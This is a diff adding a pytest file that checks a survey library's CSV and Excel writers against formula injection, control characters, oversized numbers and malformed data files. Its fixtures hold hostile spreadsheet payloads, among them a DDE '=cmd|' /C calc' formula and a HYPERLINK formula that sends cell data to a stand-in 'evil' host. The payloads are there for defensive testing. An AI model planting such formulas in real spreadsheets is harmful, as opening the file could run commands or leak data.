@@ -1,0 +1,145 @@
+"""Hostile data and labels in everything we write: no live formula, no crash, reversible.
+
+Defects D2 (formula injection in headers, codebooks, comparisons), D4 (one numeric answer
+aborting the file), D9 (control characters in the Excel writers) and the D13 data-file family
+(blank lines before the header, a BOM-only file) of the hostile-input review.
+"""
+
+from __future__ import annotations
+
+import re
+import zipfile
+from pathlib import Path
+
+import pytest
+
+import survey as sv
+from survey.cli import main
+from survey.errors import IngestError
+
+BASE = """\
+id: base
+title: {en: "=cmd|' /C calc'!A0"}
+languages: {default: en, available: {en: {name: English}}}
+choice_lists: {yn: [{name: y, label: {en: "=1+1"}}, {name: n, label: {en: "+1+2"}}]}
+items:
+  - {name: rid, type: text, role: id, label: {en: "@SUM(1)"}}
+  - {name: sex, type: select_one, list: yn, label: {en: "-2+3"}}
+  - {name: age, type: integer, label: {en: Age}, range: [0, 120]}
+  - {name: comment, type: text, label: {en: "=HYPERLINK(\\"http://evil/\\",\\"x\\")"}}
+"""
+EVIL = '=HYPERLINK("http://evil/?"&A1,"x")'
+
+
+@pytest.fixture
+def files(tmp_path):
+    t = tmp_path / "base.yaml"
+    t.write_text(BASE, encoding="utf-8")
+    d = tmp_path / "d.csv"
+    d.write_text('rid,sex,age,comment,"=HYPERLINK(""http://evil/"",""x"")"\n'
+                 '1,y,30,"=2+2",@SUM(1)\n2,n,40,"a\x0bb\x01",b\n', encoding="utf-8")
+    return t, d
+
+
+def formulas(xlsx: Path) -> list[str]:
+    with zipfile.ZipFile(xlsx) as z:
+        return [f for name in z.namelist() if name.startswith("xl/worksheets/")
+                for f in re.findall(r"<f>([^<]*)</f>", z.read(name).decode("utf-8"))]
+
+
+def formula_like_cells_unguarded(xlsx: Path) -> list[str]:
+    from openpyxl import load_workbook
+
+    wb = load_workbook(xlsx)
+    return [f"{ws.title}!{c.coordinate}" for ws in wb.worksheets for row in ws.iter_rows()
+            for c in row if isinstance(c.value, str) and c.value[:1] in "=+-@"
+            and not c.quotePrefix]
+
+
+def test_convert_to_xlsx_guards_headers_values_and_the_codebook(files, tmp_path):
+    t, d = files
+    out = tmp_path / "out.xlsx"
+    assert main(["convert", str(t), str(d), str(out)]) == 0
+    assert formulas(out) == []
+    assert formula_like_cells_unguarded(out) == []
+    from openpyxl import load_workbook
+
+    wb = load_workbook(out)
+    header = [c.value for c in wb["data"][1]]
+    assert '=HYPERLINK("http://evil/","x")' in header  # the text itself is kept
+    labels = {c.value for row in wb["codebook"].iter_rows() for c in row}
+    assert {"=1+1", "+1+2", "@SUM(1)"} <= labels
+
+
+def test_csv_header_is_guarded_and_read_back_unchanged(files, tmp_path):
+    t, d = files
+    q = sv.load_questionnaire(t)
+    first = sv.read_responses(d, q)
+    out = tmp_path / "out.csv"
+    first.to_csv(out)
+    text = out.read_text(encoding="utf-8")
+    assert text.splitlines()[0].endswith('"\'=HYPERLINK(""http://evil/"",""x"")"')
+    assert "\n1,=1+1" not in text and "'=2+2" in text
+    again = sv.read_responses(out, q)
+    assert list(again.data.columns) == list(first.data.columns)
+    assert again.data["comment"].tolist() == first.data["comment"].tolist()
+
+
+def test_codebook_csv_is_guarded(files, capsys):
+    t, _ = files
+    assert main(["codebook", str(t), "--format", "csv"]) == 0
+    import csv
+    import io
+
+    cells = [c for row in csv.reader(io.StringIO(capsys.readouterr().out)) for c in row]
+    assert not any(c and c[0] in "=+-@" for c in cells), cells
+    assert "'@SUM(1)" in cells
+
+
+@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
+def test_compare_entries_output_is_guarded(files, tmp_path, suffix):
+    t, _ = files
+    a = tmp_path / "a.csv"
+    b = tmp_path / "b.csv"
+    a.write_text("rid,sex,age,comment\n1,y,30,hello\n", encoding="utf-8")
+    b.write_text('rid,sex,age,comment\n1,y,30,"=HYPERLINK(""http://evil/?""&A1,""x"")"\n',
+                 encoding="utf-8")
+    out = tmp_path / f"cmp{suffix}"
+    main(["compare-entries", str(t), str(a), str(b), "--id-column", "rid", "--out", str(out)])
+    if suffix == ".xlsx":
+        assert formulas(out) == [] and formula_like_cells_unguarded(out) == []
+    else:
+        text = out.read_text(encoding="utf-8")
+        assert "'=HYPERLINK" in text and ',"=HYPERLINK' not in text
+
+
+def test_validation_report_with_control_characters_and_formulas(files, tmp_path):
+    t, d = files
+    tc = tmp_path / "c.yaml"
+    tc.write_text(BASE.replace('"=HYPERLINK(\\"http://evil/\\",\\"x\\")"}}',
+                               '"c"}, constraint: "string-length(.) < 2"}'), encoding="utf-8")
+    out = tmp_path / "problems.xlsx"
+    assert main(["validate", str(tc), str(d), "--report", str(out)]) in (0, 1)
+    assert out.exists() and formulas(out) == [] and formula_like_cells_unguarded(out) == []
+
+
+@pytest.mark.parametrize("value", ["inf", "-inf", "1e400", "1e19", "9223372036854775808"])
+def test_a_huge_or_infinite_integer_is_a_type_problem_not_a_crash(tmp_path, value):
+    t = tmp_path / "t.yaml"
+    t.write_text(BASE, encoding="utf-8")
+    d = tmp_path / "n.csv"
+    d.write_text(f"rid,sex,age,comment\n1,y,{value},a\n2,n,30,b\n", encoding="utf-8")
+    s = sv.read_responses(d, sv.load_questionnaire(t))
+    problems = s.validation.to_frame()
+    assert problems.loc[problems["question"] == "age", "rule"].tolist() == ["type"]
+    assert s.data["age"].isna().tolist() == [True, False]
+
+
+@pytest.mark.parametrize("content", [b"\n\nrid,sex,age,comment\n1,y,30,a\n", b"\xef\xbb\xbf"])
+def test_blank_lines_before_the_header_or_a_bom_only_file_is_an_ingest_error(tmp_path, content):
+    t = tmp_path / "t.yaml"
+    t.write_text(BASE, encoding="utf-8")
+    d = tmp_path / "blank.csv"
+    d.write_bytes(content)
+    with pytest.raises(IngestError, match="blank.csv: expected a header row and data"):
+        sv.read_responses(d, sv.load_questionnaire(t))
